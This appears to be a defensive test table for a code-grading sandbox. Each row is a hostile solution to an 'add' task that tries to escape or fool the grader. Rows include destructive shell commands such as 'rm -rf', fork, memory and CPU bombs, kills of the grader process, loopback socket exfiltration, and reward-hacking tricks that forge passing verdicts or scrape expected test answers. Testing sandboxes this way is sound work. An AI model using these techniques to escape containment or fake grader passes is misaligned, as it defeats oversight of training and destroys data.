"""Hostile programs against code grading, and what must hold of each: the exact verdict, nothing
outside changed (a canary directory with a file, a SQLite store and a subdirectory), no connection
reached a listener on the host's loopback, no process left behind, and the grader grading the
next row correctly.

Every row defines ``add(a, b)`` (tests: ``check``) and attacks from inside it. Containment rows
return ``a + b`` after their attack, so their verdict is ``correct`` and the damage check is the
point; forgery rows return a wrong answer and try to make it pass. Tokens in the code are
replaced per run: ``OUTSIDE`` (the canary directory), ``PORT`` (the listener), ``GRADER`` (this
process's pid), ``MARKER`` (a string in the argv of every process a row starts).

Imported by test_sandbox_hostile.py; also a script (``python hostile_table.py``) that runs the
table and exits 1 on any failure, so the test suite can run it as an ordinary user.
"""

from __future__ import annotations

import hashlib
import os
import socket
import sqlite3
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

TESTS = "def check(candidate):\n    assert candidate(2, 3) == 5\n    assert candidate(-1, 1) == 0\n"
GOOD = "```python\ndef add(a, b):\n    return a + b\n```"
DAMAGE = (  # what every exec route runs: python code that tries to hurt the canary directory
    "import os, shutil\n"
    "for f in (lambda: os.remove('OUTSIDE/canary.txt'), lambda: open('OUTSIDE/pwned', 'w'),\n"
    "          lambda: shutil.rmtree('OUTSIDE')):\n"
    "    try:\n"
    "        f()\n"
    "    except Exception:\n"
    "        pass\n"
)


TRY = "def _try(f):\n    try:\n        return f()\n    except BaseException as exc:\n        return exc\n"


def _fn(body: str, imports: str = "import os, sys") -> str:
    """A response: ``imports`` and ``_try``, then ``add`` running ``body`` on its first call (the
    tests call it twice) before ``return a + b``."""
    lines = "\n".join("        " + ln for ln in body.strip("\n").splitlines())
    head = f"{imports}\n{TRY}\n_DONE = []\n\ndef add(a, b):\n    if not _DONE:\n"
    return f"```python\n{head}        _DONE.append(1)\n{lines}\n    return a + b\n```"


def _wrong(body: str, imports: str = "import os, sys") -> str:
    return _fn(body, imports).replace("    return a + b\n```", "    return a - b\n```")


# (name, response, correct, reason)
ROWS: list[tuple[str, str, bool, str]] = [
    # -- exec, by every route ------------------------------------------------------------------
    (
        "exec: _posixsubprocess.fork_exec",
        _fn(
            "for argv in ([b'/bin/sh', b'-c', b'rm -rf OUTSIDE', b'MARKER'],\n"
            "             [sys.executable.encode(), b'-c', DAMAGE.encode(), b'MARKER']):\n"
            "    r, w = os.pipe()\n"
            "    _try(lambda: _posixsubprocess.fork_exec(argv, [argv[0]], True, (), None, None,\n"
            "        -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None,\n"
            "        False))\n"
            "time.sleep(0.5)",
            f"import os, sys, time, _posixsubprocess\nDAMAGE = {DAMAGE!r}",
        ),
        True,
        "correct",
    ),
    (
        "exec: os.system",
        _fn("os.system('rm -rf OUTSIDE; echo MARKER')\n_try(lambda: os.system('/bin/rm -rf /'))"),
        True,
        "correct",
    ),
    (
        "exec: subprocess",
        _fn(
            "_try(lambda: subprocess.run([sys.executable, '-c', DAMAGE, 'MARKER'], timeout=5))\n"
            "_try(lambda: subprocess.run('rm -rf OUTSIDE MARKER', shell=True))",
            f"import os, sys, subprocess\nDAMAGE = {DAMAGE!r}",
        ),
        True,
        "correct",
    ),
    (
        "exec: ctypes libc.system",
        _fn(
            "libc = ctypes.CDLL(None)\n"
            "libc.system(b'rm -rf OUTSIDE MARKER')\n"
            "libc.system((sys.executable + ' -c \"' + DAMAGE.replace(chr(10), ';') + '\" MARKER').encode())",
            f"import ctypes, sys\nDAMAGE = {DAMAGE!r}",
        ),
        True,
        "correct",
    ),
    (
        "exec: os.posix_spawn",
        _fn(
            "pid = os.posix_spawn(sys.executable, [sys.executable, '-c', DAMAGE, 'MARKER'], {})\n"
            "os.waitpid(pid, 0)",
            f"import os, sys\nDAMAGE = {DAMAGE!r}",
        ),
        True,
        "correct",
    ),
    (  # replacing the solution's process ends it: the tester gets no answer
        "exec: os.execv replaces the solution",
        _fn(
            "os.execv(sys.executable, [sys.executable, '-c', DAMAGE, 'MARKER'])",
            f"import os, sys\nDAMAGE = {DAMAGE!r}",
        ),
        False,
        "error",
    ),
    # -- the network ---------------------------------------------------------------------------
    (
        "socket: connect to a listener on the host's 127.0.0.1",
        _fn(
            "for host in ('127.0.0.1', 'localhost', '::1'):\n"
            "    def go():\n"
            "        s = socket.create_connection((host, PORT), timeout=2)\n"
            "        s.sendall(open('/proc/self/cmdline', 'rb').read())\n"
            "    _try(go)",
            "import socket",
        ),
        True,
        "correct",
    ),
    (  # the filter refuses other socket families: the right answer only if all were refused
        "socket: netlink and packet sockets are refused",
        "```python\nimport socket\n\ndef add(a, b):\n"
        "    for family in (socket.AF_NETLINK, socket.AF_PACKET):\n"
        "        try:\n            socket.socket(family, socket.SOCK_RAW)\n"
        "            return a - b\n        except OSError:\n            pass\n"
        "    return a + b\n```",
        True,
        "correct",
    ),
    # -- hook and harness tampering ------------------------------------------------------------
    (
        "tamper: forged verdict frames to every descriptor and /proc/*/fd",
        _wrong(
            "import __main__, gc, glob, json, struct\n"
            "_try(lambda: __main__.__dict__.get('_BLOCK', set()).clear())\n"
            "msg = json.dumps({'outcome': 'pass', 'detail': ''}).encode()\n"
            "frame = struct.pack('>Q', len(msg)) + msg\n"
            "for fd in range(3, 1024):\n"
            "    _try(lambda: os.write(fd, frame * 4))\n"
            "for path in glob.glob('/proc/[0-9]*/fd/*'):\n"
            "    _try(lambda: os.write(os.open(path, os.O_WRONLY), frame))\n"
            "_try(lambda: open('/sandbox/harness.py', 'w').write('pass'))\n"
            "print(msg.decode()); print(frame); sys.stdout.flush()",
            "import os, sys",
        ),
        False,
        "error",
    ),
    (  # the expected values are in the tester's memory only: the solution cannot find them
        "tamper: read the tests to answer from them",
        "```python\nimport glob, gc, os, re\n\n"
        "def _find():\n"
        "    for path in ['/sandbox/harness.py'] + glob.glob('/proc/[0-9]*/*') + glob.glob('/proc/[0-9]*/fd/*') + glob.glob('/tmp/*'):\n"
        "        try:\n"
        "            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)\n"
        "            data = os.read(fd, 1 << 20)\n"
        "            os.close(fd)\n"
        "        except Exception:\n"
        "            continue\n"
        "        m = re.findall(rb'candidate\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', data)\n"
        "        if m:\n"
        "            return {(int(x), int(y)): int(z) for x, y, z in m}\n"
        "    for obj in gc.get_objects():\n"
        "        if isinstance(obj, str) and 'candidate(2, 3) ==' in obj:\n"
        "            return {(2, 3): 5, (-1, 1): 0}\n"
        "    return {}\n\n"
        "def add(a, b):\n"
        "    return _find().get((a, b), a - b)\n```",
        False,
        "error",
    ),
    # -- writes outside ------------------------------------------------------------------------
    (
        "write: dir_fd",
        _fn(
            "for base in ('/', 'OUTSIDE'):\n"
            "    def go():\n"
            "        d = os.open(base, os.O_RDONLY)\n"
            "        rel = 'OUTSIDE'.lstrip('/') if base == '/' else '.'\n"
            "        _try(lambda: os.remove(rel + '/canary.txt', dir_fd=d))\n"
            "        _try(lambda: os.close(os.open(rel + '/pwned', os.O_CREAT | os.O_WRONLY, dir_fd=d)))\n"
            "    _try(go)",
            "import os",
        ),
        True,
        "correct",
    ),
    (
        "write: /proc/self/fd and /proc/*/root",
        _fn(
            "import glob\n"
            "for root in ['/proc/self/root'] + glob.glob('/proc/[0-9]*/root') + glob.glob('/proc/[0-9]*/cwd'):\n"
            "    _try(lambda: open(root + 'OUTSIDE/canary.txt', 'w').write('x'))\n"
            "for fd in ('0', '1', '2'):\n"
            "    _try(lambda: open('/proc/self/fd/' + fd, 'a').write('MARKER'))\n"
            "    _try(lambda: os.remove(os.readlink('/proc/self/fd/' + fd)))",
            "import os",
        ),
        True,
        "correct",
    ),
    (
        "write: sqlite into the store",
        _fn(
            "_try(lambda: sqlite3.connect('OUTSIDE/store.db').execute('DELETE FROM t').connection.commit())\n"
            "_try(lambda: sqlite3.connect('OUTSIDE/new.db').execute('CREATE TABLE x (y)'))",
            "import sqlite3",
        ),
        True,
        "correct",
    ),
    (
        "write: a fifo and a device node",
        _fn(
            "_try(lambda: os.mkfifo('OUTSIDE/fifo'))\n"
            "_try(lambda: os.mknod('OUTSIDE/node'))\n"
            "_try(lambda: os.symlink('/etc/passwd', 'OUTSIDE/link'))",
            "import os",
        ),
        True,
        "correct",
    ),
    # -- the grader's process ------------------------------------------------------------------
    (  # the parent inside is the tester: killing it gives no verdict, never a pass
        "kill: the parent by pid",
        _wrong("os.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(1)", "import os, signal, time"),
        False,
        "error",
    ),
    (
        "kill: the parent by pidfd",
        _wrong(
            "signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)\ntime.sleep(1)",
            "import os, signal, time",
        ),
        False,
        "error",
    ),
    (
        "kill: every process it can signal (kill -1)",
        _wrong("os.kill(-1, signal.SIGKILL)", "import os, signal"),
        False,
        "error",
    ),
    (  # the grader's pid is not in the sandbox's PID namespace
        "kill: the grader by its pid and pidfd, read its cmdline",
        _fn(
            "_try(lambda: os.kill(GRADER, signal.SIGKILL))\n"
            "_try(lambda: signal.pidfd_send_signal(os.pidfd_open(GRADER), signal.SIGKILL))\n"
            "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
            "    cmd = _try(lambda: open(f'/proc/{pid}/cmdline', 'rb').read())\n"
            "    if isinstance(cmd, bytes) and b'OUTSIDE' in cmd:\n"
            "        _try(lambda: os.remove('OUTSIDE/store.db'))\n"
            "_try(lambda: open(f'/proc/{GRADER}/cmdline').read())",
            "import os, signal",
        ),
        True,
        "correct",
    ),
    # -- processes that try to outlive grading -------------------------------------------------
    (
        "orphans: setsid daemons",
        _fn(
            "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(120)', 'MARKER'],\n"
            "                 start_new_session=True)\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(120)', 'MARKER'])\n"
            "    os._exit(0)\n"
            "time.sleep(0.3)",
            "import os, subprocess, sys, time",
        ),
        True,
        "correct",
    ),
    # -- bombs ---------------------------------------------------------------------------------
    ("fork bomb", _wrong("while True:\n    os.fork()"), False, "error"),
    (
        "fork bomb of sleepers, caught",
        _fn(
            "for _ in range(100000):\n"
            "    try:\n"
            "        if os.fork() == 0:\n"
            "            time.sleep(120)\n"
            "            os._exit(0)\n"
            "    except OSError:\n"
            "        break",
            "import os, time",
        ),
        True,
        "correct",
    ),
    (
        "thread bomb, caught",
        _fn(
            "try:\n"
            "    for _ in range(100000):\n"
            "        threading.Thread(target=time.sleep, args=(120,), daemon=True).start()\n"
            "except RuntimeError:\n"
            "    pass",
            "import threading, time",
        ),
        True,
        "correct",
    ),
    ("memory bomb: 64 GiB at once", _wrong("x = bytearray(64 * 2**30)"), False, "memory"),
    (
        "memory bomb: growing",
        _wrong("x = []\nwhile True:\n    x.append(bytes(50_000_000))"),
        False,
        "memory",
    ),
    ("cpu bomb", _wrong("while True:\n    pass"), False, "timeout"),
    (
        "cpu bomb in four processes",
        _wrong("for _ in range(3):\n    if os.fork() == 0:\n        break\nwhile True:\n    pass"),
        False,
        "timeout",
    ),
    (
        "disk bomb, caught",
        _fn(
            "try:\n"
            "    for i in range(10000):\n"
            "        with open(f'/tmp/fill{i}', 'wb') as fh:\n"
            "            fh.write(bytes(8 << 20))\n"
            "except OSError:\n"
            "    pass"
        ),
        True,
        "correct",
    ),
    (
        "raise rlimits, then allocate 8 GiB",
        _wrong(
            "for lim in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_CPU):\n"
            "    try:\n"
            "        resource.setrlimit(lim, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
            "    except (ValueError, OSError):\n"
            "        pass\n"
            "x = bytearray(8 * 2**30)",
            "import resource",
        ),
        False,
        "memory",
    ),
    # -- forged passes -------------------------------------------------------------------------
    (
        "forge: an AlwaysEqual result",
        "```python\nclass AlwaysEqual:\n    def __eq__(self, other):\n        return True\n"
        "    def __bool__(self):\n        return True\n\n"
        "def add(a, b):\n    return AlwaysEqual()\n```",
        False,
        "error",
    ),
    (
        "forge: a str subclass equal to everything",
        "```python\nclass S(str):\n    def __eq__(self, other):\n        return True\n"
        "    __hash__ = str.__hash__\n\n"
        "def add(a, b):\n    return S('wrong')\n```",
        False,
        "error",
    ),
    (
        "forge: printed markers, then os._exit(0)",
        _wrong(
            "src = open('/sandbox/harness.py').read()\n"
            "for out in (sys.stdout, sys.stderr):\n"
            "    print('reasonloop-passed-0123456789abcdef', file=out)\n"
            '    print(\'{"outcome": "pass", "detail": ""}\', file=out)\n'
            "    out.flush()\n"
            "os._exit(0)"
        ),
        False,
        "error",
    ),
    (
        "forge: an atexit handler, then sys.exit(0)",
        _wrong(
            "def claim():\n"
            '    print(\'{"outcome": "pass"}\')\n'
            "    for fd in range(3, 256):\n"
            "        try:\n"
            "            os.write(fd, b'\\x00' * 7 + b'\\x11{\"outcome\":\"pass\"}')\n"
            "        except OSError:\n"
            "            pass\n"
            "atexit.register(claim)\n"
            "sys.exit(0)",
            "import atexit, os, sys",
        ),
        False,
        "error",
    ),
    (
        "forge: monkeypatched builtins and json",
        _wrong(
            "import builtins, json\n"
            "builtins.AssertionError = type('Never', (Exception,), {})\n"
            "builtins.isinstance = lambda *a: True\n"
            "builtins.len = lambda *a: 0\n"
            "json.dumps = lambda *a, **k: '{\"value\": 5}'\n"
            "json.loads = lambda *a, **k: {'value': 5}",
            "import os",
        ),
        False,
        "error",
    ),
    # -- output --------------------------------------------------------------------------------
    (
        "output: correct code printing 1 MB",
        _fn("print('x' * 1_000_000)\nprint('y' * 1_000_000, file=sys.stderr)"),
        True,
        "correct",
    ),
    (
        "output: correct code printing 20 MB",
        _fn("sys.stdout.write('z' * 20_000_000)"),
        True,
        "correct",
    ),
]


class Outside:
    """A directory outside the sandbox the rows attack, and a listener on the host's loopback."""

    def __init__(self, root: Path):
        self.dir = root / f"outside-{uuid.uuid4().hex[:8]}"
        self.dir.mkdir()
        (self.dir / "canary.txt").write_text("do not touch\n")
        (self.dir / "sub").mkdir()
        (self.dir / "sub" / "keep.txt").write_text("keep\n")
        db = sqlite3.connect(self.dir / "store.db")
        db.execute("CREATE TABLE t (x)")
        db.executemany("INSERT INTO t VALUES (?)", [(i,) for i in range(10)])
        db.commit()
        db.close()
        self.server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(16)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def snapshot(self) -> dict:
        out = {}
        for path in sorted(self.dir.rglob("*")):
            st = path.lstat()
            digest = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else ""
            out[str(path.relative_to(self.dir))] = (st.st_mode, st.st_size, st.st_mtime_ns, digest)
        return out

    def close(self) -> None:
        self.server.close()


def leftovers(marker: str, before: frozenset[int] = frozenset()) -> list[str]:
    """Processes a row left behind: descendants of this process that were not there ``before``
    (other tests may keep worker pools), or any process with the row's marker in its argv."""
    parents, cmdlines = {}, {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/stat", "rb") as fh:
                stat = fh.read().decode(errors="replace")
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                cmdlines[int(pid)] = fh.read().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        parents[int(pid)] = int(stat.rsplit(")", 1)[1].split()[1])
    me, found = os.getpid(), []
    for pid, cmd in cmdlines.items():
        ancestors, p = [], pid
        while p in parents and p > 1 and len(ancestors) < 64:
            p = parents[p]
            ancestors.append(p)
        if (me in ancestors and pid not in before) or (marker in cmd and pid != me):
            found.append(f"{pid}: {cmd[:100]}")
    return found


def run_row(row: tuple[str, str, bool, str], outside: Outside) -> tuple[str, list[str]]:
    """Grade one hostile row; returns (what the verdict was, the failures)."""
    from reasonloop.verify.code import grade_code

    name, response, correct, reason = row
    marker = f"rl-hostile-{uuid.uuid4().hex}"
    for token, value in (
        ("OUTSIDE", str(outside.dir)),
        ("PORT", str(outside.port)),
        ("GRADER", str(os.getpid())),
        ("MARKER", marker),
    ):
        response = response.replace(token, value)
    before = outside.snapshot()
    connections = outside.connections
    children = frozenset(int(p.split(":")[0]) for p in leftovers(marker))
    v = grade_code(response, TESTS, "add", timeout_s=5)
    got = f"{v.correct} {v.reason} ({v.boundary})"
    failures = []
    if (v.correct, v.reason, v.boundary) != (correct, reason, "bwrap"):
        failures.append(f"verdict {got}, expected {correct} {reason} (bwrap)")
    if outside.snapshot() != before:
        failures.append("the directory outside changed")
    if outside.connections != connections:
        failures.append("the host's listener was reached")
    deadline = time.monotonic() + 3
    while (left := leftovers(marker, children)) and time.monotonic() < deadline:
        time.sleep(0.1)
    if left:
        failures.append(f"processes left behind: {left}")
    after = grade_code(GOOD, TESTS, "add", timeout_s=10)
    if not after.correct:
        failures.append(f"the next row was graded {after.reason}")
    return got, failures


def main() -> int:
    with tempfile.TemporaryDirectory(prefix="rl-hostile-") as tmp:
        outside = Outside(Path(tmp))
        failed = 0
        print(f"uid {os.getuid()}, python {sys.executable}")
        for row in ROWS:
            got, failures = run_row(row, outside)
            failed += bool(failures)
            status = "ok  " if not failures else "FAIL"
            print(f"{status} {row[0]:<60} {got}" + "".join(f"\n     {f}" for f in failures))
        outside.close()
    print(f"{len(ROWS) - failed}/{len(ROWS)} rows hold")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
